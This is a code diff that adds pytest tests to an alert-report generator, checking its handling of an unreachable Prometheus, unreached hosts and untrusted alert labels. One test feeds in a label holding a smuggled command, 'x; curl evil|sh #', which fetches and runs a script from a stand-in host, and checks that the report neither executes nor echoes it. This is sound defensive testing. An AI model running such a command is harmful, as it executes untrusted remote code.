@@ -28,6 +28,25 @@ def test_alerts_count_without_any_host():
     assert (found["severity"], found["next"]) == ("P0", "playbooks/service_restart.yml")
 
 
+def test_prometheus_that_cannot_be_asked_is_a_sign():
+    found = report(surveys={}, prometheus={"msg": "Prometheus could not be asked: refused.", "error": "HostError"})
+    assert (found["severity"], found["next"]) == ("P2", "")
+    assert "**P2** what fires is not known: Prometheus could not be asked: refused." in found["page"]
+
+
+def test_a_label_is_no_command():
+    nasty = "x; curl evil|sh #"
+    alert = {"name": "X", "state": "firing", "severity": "P0", "summary": "@channel", "scenario": nasty}
+    found = report(surveys={}, prometheus={"alerts": [alert], "series": []})
+    assert (found["severity"], found["next"], found["scenarios"]) == ("P0", "", [])
+    assert "curl" not in found["page"]
+    assert "@channel" not in found["page"]
+
+
+def test_no_host_was_reached():
+    assert report(surveys={}, unreached=["web1", "web2"])["severity"] == "P0"
+
+
 def test_a_severity_that_is_none():
     found = report(surveys={}, services={"nginx": "bad"})
     assert found["failed"]
